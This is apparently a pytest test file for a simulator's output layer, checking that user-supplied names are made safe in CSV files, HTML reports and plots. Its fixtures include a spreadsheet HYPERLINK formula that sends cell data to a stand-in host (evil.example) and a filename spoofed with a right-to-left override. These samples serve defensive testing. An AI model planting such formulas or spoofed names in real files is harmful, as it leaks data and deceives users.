"""Issue 16 items 7, 16, 17: what users write reaches files, figures and pages safely.

* ``=HYPERLINK(...)`` in a name reached CSV cells as a live spreadsheet formula;
* U+202E (right-to-left override) reached the HTML report and reordered its text;
* ``$\\bad$`` in a swept value or a title broke ``report`` and ``plot`` (math text);
* ``scenario.resolved.yaml`` kept ``bandwidth_trace_file: bw.csv`` relative, so a rerun
  from elsewhere failed or read another ``bw.csv``.
"""

from __future__ import annotations

import copy
import shutil

import pandas as pd
import pytest
import yaml
from faults.output_fixtures import tiny_document, write_scenario
from plot_data import split_document

from analysis.neurosurgeon_map import run_grid, write_sweep
from analysis.report import build_report
from simulator.cli import main
from simulator.engine import simulate
from simulator.exitcodes import EXIT_OK
from simulator.output import write_csv
from simulator.spec import parse_scenario

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _renamed_op(name: str) -> dict:
    document = tiny_document()
    document["models"]["net"]["ops"][0]["name"] = name
    return document


def test_a_formula_in_a_name_is_inert_in_every_csv(tmp_path):
    result = simulate(parse_scenario(_renamed_op(FORMULA)))
    result.write(tmp_path)
    cells = pd.read_csv(tmp_path / "ops.csv", dtype=str)["op"]
    assert set(cells) == {"'" + FORMULA}
    assert not any(
        line.startswith(("=", "+", "-", "@")) or ",=" in line
        for path in tmp_path.glob("*.csv")
        for line in path.read_text().splitlines()
    )
    assert set(pd.read_parquet(tmp_path / "ops.parquet")["op"]) == {FORMULA}  # data intact


def test_every_formula_prefix_is_neutralised_and_numbers_are_not(tmp_path):
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"],
            "number": [-1.5, -2.0, 3.0, -4.0, 5.0, 6.0, 7.0, -8.0],
            "whole": [-1, 2, -3, 4, -5, 6, -7, 8],
        }
    )
    write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", dtype={"text": str}, keep_default_na=False)
    assert list(back["text"]) == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain",
                                  "a=b"]  # fmt: skip
    assert back["number"].tolist() == frame["number"].tolist()
    assert back["whole"].tolist() == frame["whole"].tolist()


def test_bidi_controls_are_shown_not_obeyed_in_the_report(tmp_path):
    document = tiny_document()
    evil = "invoice\u202etxt.exe\u2066x\u2069"
    document["models"] = {evil: document["models"]["net"]}
    document["workload"][0]["model"] = evil
    simulate(parse_scenario(document)).write(tmp_path, parquet=False)
    page = build_report(tmp_path)
    assert not any(ch in page for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert "invoice[U+202E]txt.exe[U+2066]x[U+2069]" in page


def test_math_text_in_a_title_or_a_swept_value_is_drawn_literally(tmp_path):
    document = split_document()
    document["models"] = {r"$\bad$": document["models"]["net"], "plain": document["models"]["net"]}
    document["workload"][0]["model"] = "plain"
    grid = {"workload[0].model": [r"$\bad$", "plain"], "links.uplink.bandwidth_mbps": [2, 100]}
    sweep = write_sweep(run_grid(copy.deepcopy(document), grid), tmp_path / "sweep", list(grid))
    assert main(["report", str(sweep), "-o", str(tmp_path / "r.html")]) == EXIT_OK
    for kind in ("decision_map", "curves", "pareto"):
        argv = ["plot", kind, str(sweep), "-o", str(tmp_path / f"{kind}.png")]
        assert main([*argv, "--title", r"$\alpha^{$\bad$"]) == EXIT_OK


@pytest.fixture
def traced(tmp_path):
    """A scenario whose uplink follows bw.csv (in its folder)."""
    folder = tmp_path / "a"
    document = tiny_document()
    document["links"]["uplink"]["bandwidth_trace_file"] = "bw.csv"
    scenario = write_scenario(folder, document)
    (folder / "bw.csv").write_text("time_s,bandwidth_mbps\n0,3.3\n0.5,0.7\n1.25,12.1\n")
    return scenario


def test_the_resolved_scenario_inlines_the_trace_and_reruns_anywhere(tmp_path, traced):
    assert main(["run", str(traced), "-o", str(tmp_path / "first")]) == EXIT_OK
    resolved = tmp_path / "first" / "scenario.resolved.yaml"
    link = yaml.safe_load(resolved.read_text())["links"]["uplink"]
    assert "bandwidth_trace_file" not in link
    assert link["bandwidth_trace_mbps"] == [[0.0, 3.3], [0.5, 0.7], [1.25, 12.1]]
    elsewhere = tmp_path / "b"
    elsewhere.mkdir()
    shutil.copy(resolved, elsewhere / "again.yaml")
    (elsewhere / "bw.csv").write_text("0,999\n")  # a different bw.csv must never be read
    assert main(["run", str(elsewhere / "again.yaml"), "-o", str(tmp_path / "second")]) == 0
    for table in ("requests", "transfers", "energy", "summary"):
        first = (tmp_path / "first" / f"{table}.csv").read_bytes()
        assert first == (tmp_path / "second" / f"{table}.csv").read_bytes(), table
